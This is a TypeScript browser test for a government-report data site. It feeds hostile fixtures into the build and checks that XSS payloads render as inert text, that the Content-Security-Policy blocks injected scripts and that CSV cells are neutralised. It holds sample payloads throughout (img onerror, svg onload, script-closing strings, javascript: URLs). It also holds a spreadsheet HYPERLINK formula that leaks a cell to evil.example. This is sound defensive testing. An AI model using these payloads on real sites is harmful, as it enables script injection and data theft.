/**
 * Nothing a source says runs in a reader's browser. A throw-away copy of the
 * site is built, exactly as `npm run build` does, from the seeds plus two
 * hostile sources (tests/hostile/fixtures/xss-markup.txt, xss-json.txt, made by
 * make-fixtures.py) whose title, hence jurisdiction, publisher, contact address,
 * headings, a statistics row label and a cell carry script payloads:
 * `<img/src=x onerror=…>`, `<svg/onload=…>`, `<script>`, `</script>`,
 * `javascript:` URLs, `{"x":"</script><script>alert(1)</script>"}`, U+2028 and a
 * spreadsheet formula. Every page that shows them is opened in Chromium: no
 * dialog, console error, page error or CSP violation; no element or attribute
 * born from a payload; the payload on the page as text. Every page carries the
 * Content-Security-Policy, and it blocks an inline handler, an inline script
 * and a foreign script injected by the test. The CSV downloads hold no cell a
 * spreadsheet would evaluate.
 */
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { Browser, Page } from "playwright-core";
import { execFileSync } from "node:child_process";
import { copyFileSync, readdirSync, readFileSync } from "node:fs";
import { join, resolve } from "node:path";
import { tmpdir } from "node:os";
import { prepareSiteCopy, type SiteCopy } from "../../scripts/bench/workspace.ts";
import { serveDist, type StaticServer } from "./serve.ts";
import { launchChromium } from "./chromium.ts";
import { FIXTURES } from "../hostile/helpers.ts";
import { parseReport, type Report } from "../../src/schema/report.ts";
import { FORMULA_START, parseCsv } from "../../src/site/datasets/csv.ts";
import { CONTENT_SECURITY_POLICY } from "../../src/site/content-security-policy.ts";
import { allIndicators } from "../../src/catalog/index.ts";
import { CATALOG_BUNDLE } from "../../src/site/search-bundles.ts";
import { STATUS_TEXT } from "../../src/site/printed-tables/labels.ts";

const PROJECT = resolve(".");
const MARKUP_FILE = "xss-markup.txt";
const JSON_FILE = "xss-json.txt";

let copy: SiteCopy;
let server: StaticServer;
let browser: Browser;
/** The two hostile reports as the converter wrote them. */
let markup: Report;
let json: Report;
/** The JSON fixture's title line, which would close a script element and start another. */
const JSON_TITLE_LINE = '-{"x":"</script><script>alert(1)</script>"}2017年政府信息公开工作年度报告';

function run(command: string, args: string[]): void {
  execFileSync(command, args, { cwd: copy.root, stdio: "pipe", env: { ...process.env, ASTRO_TELEMETRY_DISABLED: "1" } });
}

beforeAll(async () => {
  copy = prepareSiteCopy(PROJECT, join(tmpdir(), "gov-reports-xss-site"));
  for (const name of readdirSync("sources")) copyFileSync(join("sources", name), join(copy.sources, name));
  for (const name of [MARKUP_FILE, JSON_FILE]) copyFileSync(join(FIXTURES, name), join(copy.sources, name));
  run("node", ["node_modules/tsx/dist/cli.mjs", "scripts/convert.ts", "--no-cache"]);
  run("node", ["node_modules/astro/astro.js", "build"]);
  run("node", ["node_modules/tsx/dist/cli.mjs", "scripts/index-search.ts", "dist"]);
  const data = join(copy.content, "data");
  // The published reports only: data/versions/ holds the earlier versions of re-issued reports.
  const files = readdirSync(data).filter((name) => name.endsWith(".json"));
  const reports = files.map((name) => parseReport(JSON.parse(readFileSync(join(data, name), "utf8")), name));
  markup = reports.find((r) => r.source.file === MARKUP_FILE)!;
  json = reports.find((r) => r.source.file === JSON_FILE)!;
  server = await serveDist(copy.dist);
  browser = await launchChromium();
}, 300_000);

afterAll(async () => {
  await browser?.close();
  await server?.close();
});

interface Visit {
  page: Page;
  dialogs: string[];
  errors: string[];
}

/** Open a page with listeners for dialogs, errors and CSP violations (recorded from before any page script runs). */
async function visit(path: string): Promise<Visit> {
  const page = await browser.newPage();
  const dialogs: string[] = [];
  const errors: string[] = [];
  page.on("dialog", async (dialog) => {
    dialogs.push(`${dialog.type()}: ${dialog.message()}`);
    await dialog.dismiss();
  });
  page.on("pageerror", (error) => errors.push(error.message));
  page.on("console", (message) => {
    if (message.type() === "error") errors.push(message.text());
  });
  await page.addInitScript(() => {
    const seen: string[] = [];
    (window as unknown as { cspViolations: string[] }).cspViolations = seen;
    document.addEventListener("securitypolicyviolation", (event) => seen.push(`${event.effectiveDirective} ${event.blockedURI}`));
  });
  const response = await page.goto(server.url + path, { waitUntil: "networkidle" });
  expect(response?.status(), path).toBe(200);
  return { page, dialogs, errors };
}

const cspViolations = (page: Page) => page.evaluate(() => (window as unknown as { cspViolations: string[] }).cspViolations);

/** What the DOM holds that a payload could have made, and the page's text outside scripts. */
function inspect(page: Page) {
  return page.evaluate(() => {
    const all = [...document.querySelectorAll("*")];
    const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT, {
      acceptNode: (node) => (node.parentElement?.closest("script, style") ? NodeFilter.FILTER_REJECT : NodeFilter.FILTER_ACCEPT),
    });
    const texts: string[] = [];
    while (walker.nextNode()) texts.push(walker.currentNode.nodeValue ?? "");
    return {
      handlers: all.flatMap((el) => [...el.attributes].filter((a) => /^on/i.test(a.name)).map((a) => `${el.tagName} ${a.name}`)),
      foreign: all.filter((el) => /^(IMG|SVG|IFRAME|OBJECT|EMBED|svg)$/.test(el.tagName)).map((el) => el.outerHTML.slice(0, 80)),
      scripts: [...document.scripts].map((s) => ({ src: s.getAttribute("src"), type: s.type, text: s.textContent ?? "" })),
      scriptUrls: all.flatMap((el) => [...el.attributes].filter((a) => /^\s*javascript:/i.test(a.value)).map((a) => `${el.tagName} ${a.name}`)),
      text: texts.join(""),
      title: document.title,
    };
  });
}

/** The site's own scripts only: same-origin files, and JSON islands that still parse as JSON. */
function expectOnlyOwnScripts(scripts: { src: string | null; type: string; text: string }[], path: string): void {
  for (const script of scripts) {
    if (script.src !== null) {
      expect(script.src, path).toMatch(/^\/(?!\/)/);
      continue;
    }
    expect(["application/json", "application/ld+json"], `${path}: inline script ${script.text.slice(0, 60)}`).toContain(script.type);
    expect(() => JSON.parse(script.text), `${path}: a JSON island no longer parses`).not.toThrow();
  }
}

/** Open a page, let any injected handler fire, and assert that nothing ran and the payloads read as text. */
async function expectInert(path: string, visible: string[], prepare?: (page: Page) => Promise<void>): Promise<void> {
  const { page, dialogs, errors } = await visit(path);
  try {
    if (prepare) await prepare(page);
    await page.waitForTimeout(300); // onerror/onload handlers fire asynchronously
    const dom = await inspect(page);
    expect(dialogs, path).toEqual([]);
    expect(errors, path).toEqual([]);
    expect(await cspViolations(page), path).toEqual([]);
    expect(dom.handlers, path).toEqual([]);
    expect(dom.foreign, path).toEqual([]);
    expect(dom.scriptUrls, path).toEqual([]);
    expectOnlyOwnScripts(dom.scripts, path);
    expect(visible.filter((text) => !dom.text.includes(text)), `${path}: payload text missing from the page`).toEqual([]);
  } finally {
    await page.close();
  }
}

describe("hostile metadata on every page that shows it", () => {
  it("converted both hostile sources with their payloads intact", () => {
    expect(markup.title).toBe("<img/src=x onerror=alert(document.domain)>2018年政府信息公开工作年度报告");
    // A jurisdiction's name is read without white space (OCR spreads names: 红 寺 堡 区); the payload stays a payload.
    expect(markup.jurisdiction).toMatchObject({ name: "<img/src=xonerror=alert(document.domain)>", resolved: false });
    expect(markup.publisher).toBe("@SUM(1)</script><svg/onload=alert(1)>办公室");
    expect(markup.contact.address).toBe('</script><script>alert`地址`</script>{"x":"</script>"}javascript:alert`1`<img/src/onerror=alert`2`>金水街008号');
    expect(markup.headings.map((h) => h.text)).toContain("一、概述</script>\u2028<script>alert(8)</script>");
    expect(markup.headings.map((h) => h.text)).toContain("（六）加强提案公开<img/src/onerror=alert(9)>");
    expect(markup.statistics.find((s) => s.indicator === "complaints_total")).toMatchObject({
      value: null,
      label: "六、举报投诉数量<img/src/onerror=alert(11)>",
      status: "uncertain",
      raw: '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")<script>alert(12)</script>',
    });
    // The JSON-breaking fixture is seed 001 (中卫市 2017) under a hostile title line: read as a later
    // version of that report, its title taken from the report's own words; the line stays in its source text.
    expect(json.id).toBe("640500-2017");
    expect(json.diagnostics.map((d) => d.code)).toContain("several_versions");
  });

  it("report pages: title, jurisdiction, publisher, contact, headings and the statistics row run nothing and read as text", async () => {
    await expectInert(`/reports/${markup.id}/`, [
      markup.title,
      markup.jurisdiction.fullName,
      markup.publisher!,
      markup.contact.address!,
      "一、概述</script>\u2028<script>alert(8)</script>",
      "（六）加强提案公开<img/src/onerror=alert(9)>",
    ]);
    await expectInert(`/reports/${json.id}/`, [json.title, json.jurisdiction.fullName]);
  });

  it("report page: the unreadable hostile cell is 无法确定, its raw text in the link's title, as text", async () => {
    const { page } = await visit(`/reports/${markup.id}/`);
    const stat = markup.statistics.find((s) => s.indicator === "complaints_total")!;
    const cell = page.locator("td#stat-complaints_total");
    expect(await cell.getAttribute("data-status")).toBe("uncertain");
    expect((await cell.textContent())?.trim().startsWith(STATUS_TEXT.uncertain)).toBe(true);
    expect(await cell.locator("a.fig__value").getAttribute("title")).toContain(`原文印为「${stat.raw}」`);
    await page.close();
  });

  it("report page titles are the hostile titles, as text", async () => {
    for (const report of [markup, json]) {
      const { page } = await visit(`/reports/${report.id}/`);
      expect((await inspect(page)).title).toBe(`${report.title} · 政府信息公开年报数据`);
      expect(await page.locator('meta[property="og:title"]').getAttribute("content")).toBe(report.title);
      await page.close();
    }
  });

  it("source pages show every hostile line as text", async () => {
    const lines = readFileSync(join(FIXTURES, MARKUP_FILE), "utf8").split("\n");
    await expectInert(`/reports/${markup.id}/source/`, [lines[2]!, lines[225]!.split("\t")[0]!, "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"点此查看\")<script>alert(12)</script>"]);
    await expectInert(`/reports/${json.id}/source/`, [JSON_TITLE_LINE]);
  });

  it("lists, jurisdiction pages (with their charts' JSON), indicator pages, home and downloads run nothing", async () => {
    const names = [markup.jurisdiction.name, json.jurisdiction.name];
    await expectInert("/", []);
    await expectInert("/reports/", names);
    await expectInert("/jurisdictions/", names);
    await expectInert(`/jurisdictions/${markup.jurisdiction.id}/`, [markup.jurisdiction.name, markup.title]);
    await expectInert(`/jurisdictions/${json.jurisdiction.id}/`, [json.jurisdiction.name, json.title]);
    const raw = markup.statistics.find((s) => s.indicator === "complaints_total")!.raw;
    await expectInert("/indicators/complaints_total/", [...names, `「${raw}」`]);
    await expectInert("/indicators/proactive_total/", names);
    await expectInert("/downloads/", [markup.title, json.title]);
  });

  it("search with a query hitting both reports, its filters shown, runs nothing", async () => {
    // Waits for the status line any search UI prints, so this part holds whatever draws the results.
    await expectInert(`/search/?q=alert`, [markup.title, markup.jurisdiction.name], async (page) => {
      await page.waitForFunction(() => document.querySelector("main")?.textContent?.includes("份包含「alert」的年报"), undefined, { timeout: 15_000 });
      await page.waitForTimeout(500);
    });
  });

  it("search: result titles, section titles, excerpts and filter labels are text nodes", async () => {
    const resultsShown = async (page: Page) => {
      await page.waitForSelector(".search-result", { timeout: 15_000 });
      while (await page.locator("[data-search-more]").isVisible()) {
        await page.locator("[data-search-more]").click();
        await page.waitForTimeout(200);
      }
    };
    const { page, dialogs, errors } = await visit(`/search/?q=alert`);
    await resultsShown(page);
    const titles = await page.locator(".search-result__title").allTextContents();
    expect(titles).toContain(markup.title);
    const excerpts = await page.locator(".search-result__excerpt").allTextContents();
    // Pagefind writes < and > in excerpts as entities; they read back as the characters, never as markup.
    expect(excerpts.some((text) => text.includes(JSON_TITLE_LINE)), JSON.stringify(excerpts)).toBe(true);
    expect(excerpts.some((text) => text.includes("@SUM(1)</script><svg/onload=alert(1)>办公室")), JSON.stringify(excerpts)).toBe(true);
    const sections = await page.locator(".search-result__section-link").allTextContents();
    // A snippet shows any white space (the U+2028 here) as one space.
    expect(sections).toContain("一、概述</script> <script>alert(8)</script>");
    expect(sections).toContain("（六）加强提案公开<img/src/onerror=alert(9)>");
    const filterValues = await page.locator(".search-filter__value").allTextContents();
    expect(filterValues).toContain(markup.jurisdiction.name);
    // Filtering on the hostile jurisdiction keeps the page inert and finds its report.
    await page.getByRole("checkbox", { name: markup.jurisdiction.name }).first().check();
    await page.waitForFunction(() => document.querySelectorAll(".search-result").length === 1);
    expect(await page.locator(".search-result__title").allTextContents()).toEqual([markup.title]);
    expect((await inspect(page)).handlers).toEqual([]);
    expect(dialogs).toEqual([]);
    expect(errors).toEqual([]);
    await page.close();
  });
});

describe("Content-Security-Policy", () => {
  const PAGES = () => [
    "/",
    "/reports/",
    `/reports/${markup.id}/`,
    `/reports/${markup.id}/source/`,
    "/indicators/",
    "/indicators/complaints_total/",
    "/jurisdictions/",
    `/jurisdictions/${json.jurisdiction.id}/`,
    "/search/?q=alert",
    "/downloads/",
    "/about/",
    "/concepts/",
    "/concepts/requests_received/",
    "/compare/",
  ];

  it("is the first thing in every page's head", async () => {
    for (const path of PAGES()) {
      const html = await (await fetch(server.url + path)).text();
      const head = /<head>(.*?)<\/head>/s.exec(html)?.[1] ?? "";
      expect(head, path).toMatch(/^<meta charset="utf-8"><meta http-equiv="Content-Security-Policy" content="([^"]+)">/);
      expect(/http-equiv="Content-Security-Policy" content="([^"]+)"/.exec(head)?.[1]?.replaceAll("&#39;", "'"), path).toBe(CONTENT_SECURITY_POLICY);
    }
  });

  it("blocks an inline handler, an inline script and a foreign script injected into any page, and the site itself violates nothing", async () => {
    for (const path of PAGES()) {
      const { page, dialogs } = await visit(path);
      expect(await cspViolations(page), path).toEqual([]);
      const ran = await page.evaluate(async () => {
        const w = window as unknown as { ranHandler?: boolean; ranInline?: boolean; ranForeign?: boolean };
        const div = document.createElement("div");
        div.setAttribute("onclick", "window.ranHandler = true");
        document.body.append(div);
        div.click();
        const inline = document.createElement("script");
        inline.textContent = "window.ranInline = true";
        document.body.append(inline);
        const foreign = document.createElement("script");
        foreign.src = "https://evil.example/x.js";
        document.body.append(foreign);
        await new Promise((done) => setTimeout(done, 300));
        return { handler: w.ranHandler === true, inline: w.ranInline === true, foreign: w.ranForeign === true };
      });
      expect(ran, path).toEqual({ handler: false, inline: false, foreign: false });
      expect((await cspViolations(page)).sort(), path).toEqual(["script-src-attr inline", "script-src-elem https://evil.example/x.js", "script-src-elem inline"].sort());
      expect(dialogs, path).toEqual([]);
      await page.close();
    }
  });
});

/** The search bundle holding the hostile markup report's year (bundles of consecutive years: src/site/search-bundles.ts). */
function reportBundle(): string {
  const keys = readdirSync(join(copy.dist, "pagefind")).filter((key) => key !== CATALOG_BUNDLE);
  const key = keys.find((k) => {
    const [newest, oldest = newest] = k.split("-").map(Number);
    return markup.year <= newest! && markup.year >= oldest!;
  });
  if (!key) throw new Error(`no search bundle holds ${markup.year}: ${keys.join(", ")}`);
  return key;
}

describe("Content-Security-Policy and Pagefind", () => {
  it("lets Pagefind compile its WebAssembly on the page, as it does when its web worker cannot start", async () => {
    // Not the search page, whose client has already started this bundle's pagefind.js with its worker.
    const { page, errors } = await visit("/about/");
    // A string, not a function: vitest would rewrite a function's import() for Node.
    const found = await page.evaluate(`(async () => {
      const pagefind = await import("/pagefind/${reportBundle()}/pagefind.js");
      await pagefind.options({ noWorker: true });
      const { results } = await pagefind.search("onerror");
      return Promise.all(results.map(async (result) => (await result.data()).url));
    })()`);
    expect(found).toEqual([`/reports/${markup.id}/`]);
    expect(errors).toEqual([]);
    expect(await cspViolations(page)).toEqual([]);
    await page.close();
  });
});

describe("CSV downloads of the hostile reports", () => {
  const numberColumns = new Set(["year", "value", "source_line", "checks_failed", ...allIndicators().map((e) => e.indicator.id)]);

  async function csv(path: string): Promise<{ header: string[]; records: string[][] }> {
    const response = await fetch(`${server.url}/downloads/${path}`);
    expect(response.status, path).toBe(200);
    const [header, ...records] = parseCsv(await response.text());
    return { header: header!, records };
  }

  it("have no cell a spreadsheet would evaluate, and numbers still parse as numbers", async () => {
    for (const path of ["reports-long.csv", "reports-wide.csv", `reports/${markup.id}.csv`, `reports/${json.id}.csv`]) {
      const { header, records } = await csv(path);
      let numbers = 0;
      for (const record of records) {
        record.forEach((cell, i) => {
          const column = header[i]!;
          if (numberColumns.has(column)) {
            if (cell !== "") {
              expect(Number.isFinite(Number(cell)), `${path} ${column} ${cell}`).toBe(true);
              numbers += 1;
            }
          } else {
            expect(cell, `${path} ${column}`).not.toMatch(FORMULA_START);
          }
        });
      }
      expect(numbers, path).toBeGreaterThan(0);
    }
  });

  it("keep the hostile text behind one apostrophe", async () => {
    const { header, records } = await csv(`reports/${markup.id}.csv`);
    const complaints = records.find((r) => r[header.indexOf("indicator_id")] === "complaints_total")!;
    expect(complaints[header.indexOf("raw_text")]).toBe(`'=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")<script>alert(12)</script>`);
    const wide = await csv("reports-wide-national-2008.csv");
    const markupRow = wide.records.find((r) => r[wide.header.indexOf("report_id")] === markup.id)!;
    expect(markupRow[wide.header.indexOf("publisher")]).toBe(`'${markup.publisher}`);
  });
});
